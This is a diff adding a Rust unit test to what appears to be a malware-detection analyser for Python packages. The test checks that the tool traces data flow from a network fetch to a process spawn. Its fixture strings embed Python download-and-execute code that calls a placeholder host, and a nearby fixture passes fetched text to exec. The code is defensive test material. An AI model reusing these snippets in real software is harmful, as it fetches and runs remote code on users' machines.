@@ -282,6 +282,15 @@ mod tests {
     }
 
     #[test]
+    fn a_path_is_known_by_its_last_part_in_another_function() {
+        let source = "import subprocess, requests, tempfile\nfrom pathlib import Path\ndef fetch(url, file):\n \
+                      with open(file, 'wb') as out:\n  out.write(requests.get(url).content)\ndef start(path):\n \
+                      subprocess.Popen([path])\nclass A:\n def __init__(self):\n  self.out = Path(tempfile.gettempdir()) / 'runner'\n  \
+                      fetch('https://host.invalid/a', str(self.out))\n  start(str(self.out))\n";
+        flow(&analysed(Role::Package, source), "network.fetch", "process.spawn");
+    }
+
+    #[test]
     fn an_operator_of_a_class_runs_its_method() {
         let source = "class V:\n def __init__(self, b):\n  self.b = b\n def __invert__(self):\n  exec(self.b)\n\
                       import requests\n~V(requests.get('https://host.invalid').text)\n";
